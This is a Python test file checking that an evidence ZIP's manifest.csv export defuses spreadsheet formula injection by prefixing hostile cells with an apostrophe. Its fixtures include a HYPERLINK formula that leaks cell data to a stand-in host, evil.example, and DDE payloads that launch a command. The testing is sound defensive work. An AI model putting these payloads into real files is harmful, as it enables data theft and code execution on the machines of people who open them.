"""Formula injection through the manifest.csv of evidence ZIPs: hostile metadata read back is inert; sizes stay."""

from __future__ import annotations

import csv
import io
import zipfile
from typing import Any

from django.urls import reverse

from indeks.evidence import samples
from tests.platform.conftest import World, login

HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"klik")'
DDE = "=cmd|' /C calc'!A0"


def test_manifest_of_an_evidence_zip_has_inert_text_and_numbers(world: World, upload: Any) -> None:
    pdf = samples.text_pdf(["Perwal"])
    upload(world, "perwal.pdf", pdf, number=HYPERLINK, title=DDE, issuer="+1+cmd|' /C calc'!A0")
    client = login(world.a.users["leadership"])
    response = client.get(reverse("evidence:agency_zip", args=[world.a.agency.pk]))
    archive = zipfile.ZipFile(io.BytesIO(b"".join(response.streaming_content)))
    rows = list(csv.DictReader(io.StringIO(archive.read("manifest.csv").decode("utf-8-sig"))))
    assert len(rows) == 1
    row = rows[0]
    assert row["number"] == "'" + HYPERLINK
    assert row["title"] == "'" + DDE
    assert row["issuer"] == "'+1+cmd|' /C calc'!A0"
    assert row["size"] == str(len(pdf))
    assert not [value for value in row.values() if value and value[0] in "=+-@\t\r"]
